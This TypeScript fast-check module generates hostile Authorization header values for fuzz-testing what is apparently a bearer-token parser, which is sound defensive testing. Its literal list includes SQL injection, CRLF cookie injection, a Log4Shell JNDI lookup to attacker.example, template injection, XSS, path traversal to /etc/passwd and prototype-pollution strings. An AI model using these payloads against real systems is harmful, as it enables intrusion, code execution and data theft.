// Hostile texts: what has nothing of a token, byte by byte as it is sent.

import fc, { type Arbitrary } from 'fast-check';

const LITERALS = [
  ...['', ' ', '\t', 'null', 'undefined', 'Bearer', 'bearer', 'BEARER ', 'Bearer null', 'Bearer undefined'],
  ...['Bearer [object Object]', 'Bearer NaN', 'Bearer .', 'Bearer ..', 'Bearer ...', 'Bearer a.b.c'],
  ...['Bearer\t', 'Bearer \t', 'Bearer,', 'Bearer:', 'Bearer=', 'Bearer""', 'Bearers x', 'Bear x', 'B'],
  ...['Basic dXNlcjpwYXNz', 'Digest username="x"', 'Negotiate YII=', 'Token x', 'DPoP x', 'HOBA result="x"'],
  "Bearer ' OR '1'='1",
  "Bearer '; DROP TABLE sessions; --",
  "Bearer '/**/UNION/**/SELECT/**/token/**/FROM/**/sessions--",
  'Bearer $1',
  'Bearer %00',
  'Bearer %0d%0aSet-Cookie:%20x=1',
  'Bearer ${jndi:ldap://attacker.example/x}',
  'Bearer {{7*7}}',
  'Bearer <script>alert(1)</script>',
  'Bearer ../../../../etc/passwd',
  'Bearer %s%s%s%n',
  'Bearer {"$gt":""}',
  'Bearer __proto__',
  'Bearer constructor.prototype.x',
  'Bearer token1, Bearer token2',
  'Bearer x; charset=utf-8',
];
const BASE64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
/** Sent as UTF-8, of which Node makes one character a byte. */
const UNICODE = [
  ...[
    'Bearer é',
    'Bearer 😀.😀.😀',
    'Bearer \u202e',
    'Bearer \u200b',
    'Bearer\u00a0x',
    'Bearer\u2003x',
    '\ufeffBearer x',
  ],
  ...[
    'Ｂearer x',
    'Beareг x',
    'Bearer \u2028',
    'Bearer \u0000',
    'ﾂBearer x',
    'Bearer ß',
    'ſ',
    'Bearer \u0085x',
  ],
].map(utf8);

/** Any bytes, but none that begins another header line. */
export function bytes(minLength: number, maxLength: number): Arbitrary<string> {
  return fc
    .uint8Array({ minLength, maxLength })
    .map((array) => Buffer.from(array).toString('latin1').replaceAll('\r\n', '\r'));
}

export const texts: Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...LITERALS, ...UNICODE) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }).map(utf8) },
  {
    weight: 2,
    arbitrary: fc.string({ unit: 'binary', maxLength: 20 }).map((text) => `Bearer ${utf8(text)}`),
  },
  { weight: 2, arbitrary: bytes(0, 60) },
  { weight: 2, arbitrary: bytes(1, 60).map((text) => `Bearer ${text}`) },
  {
    weight: 3,
    arbitrary: fc
      .tuple(fc.constantFrom('Bearer ', 'bearer  ', ''), fc.string({ unit: 'grapheme-ascii', maxLength: 60 }))
      .map(([before, text]) => before + text),
  },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.string({ unit: fc.constantFrom(...BASE64URL), maxLength: 30 }), {
        minLength: 1,
        maxLength: 5,
      })
      .map((parts) => `Bearer ${parts.join('.')}`),
  },
);

function utf8(text: string): string {
  return Buffer.from(text, 'utf8').toString('latin1').replaceAll('\r\n', '\r');
}
